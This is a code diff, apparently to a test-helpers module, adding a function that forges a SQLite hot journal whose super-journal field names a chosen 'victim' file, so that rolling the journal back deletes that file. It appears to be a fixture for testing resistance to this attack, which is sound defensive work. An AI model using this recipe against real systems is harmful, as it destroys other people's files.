@@ -46,3 +46,26 @@ def replace(path: str | os.PathLike, name: str, content: bytes, manifest: bool) 
 def scribble(database: bytes) -> bytes:
     """A database whose header is right and whose tables are not."""
     return database[:4096] + b"\xa5" * (len(database) - 4096)
+
+
+def hot_journal(path: str | os.PathLike, victim: str | os.PathLike) -> None:
+    """Make a SQLite database with a hot journal that names a file as its super-journal: who rolls it back removes that file."""
+    import sqlite3  # an attacker's program is this function's source
+    import struct
+
+    name, magic, nonce = os.fsencode(victim), bytes.fromhex("d9d505f920a163d7"), 1234
+    database = sqlite3.connect(path)
+    database.execute("CREATE TABLE t (x)")
+    database.execute("INSERT INTO t VALUES ('x')")
+    database.commit()
+    database.close()
+    with open(path, "rb") as stream:
+        content = stream.read()
+    size = struct.unpack(">H", content[16:18])[0]
+    page = content[:size]
+    total = (nonce + sum(page[at] for at in range(size - 200, 0, -200))) & 0xFFFFFFFF
+    journal = (magic + struct.pack(">5I", 1, nonce, len(content) // size, 512, size)).ljust(512, b"\0")
+    journal += struct.pack(">I", 1) + page + struct.pack(">I", total)
+    journal += struct.pack(">I", 0x40000000 // size + 1) + name + struct.pack(">2I", len(name), sum(name)) + magic
+    with open(f"{path}-journal", "wb") as stream:
+        stream.write(journal)
